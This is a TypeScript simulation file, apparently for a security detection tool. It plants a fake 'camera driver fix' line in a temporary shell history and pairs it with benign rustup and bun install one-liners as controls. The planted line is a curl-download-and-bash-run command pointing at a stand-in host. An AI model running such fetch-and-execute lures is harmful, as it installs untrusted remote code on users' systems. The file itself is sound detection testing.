import { basename } from 'node:path';
import { rule } from '../rules.ts';
import type { Simulation } from '../simulation.ts';

export const pastedLure: Simulation = {
  id: 'pasted-lure',
  title: 'A fake driver fix is pasted into a terminal',
  description:
    'A line that downloads and runs a “camera driver” appears in the shell history of a temporary home. Nothing is downloaded or run.',
  expects: [rule.pastedLure],
  expectsWithConnections: [],
  run: async (stage) => {
    const name = `camera-driver-${basename(stage.directory)}`;
    stage.append(
      '.bash_history',
      `curl -o /tmp/${name}.sh https://fix.example.test/${name}.sh && bash /tmp/${name}.sh`,
    );
  },
  // What people paste that install a tool by its vendor's one-liner.
  twin: async (stage) => {
    const name = basename(stage.directory);
    stage.append('.bash_history', `curl --proto '=https' -sSf https://sh.rustup.rs | sh -s -- -y # ${name}`);
    stage.append('.bash_history', `curl -fsSL https://bun.sh/install | bash # ${name}`);
  },
};
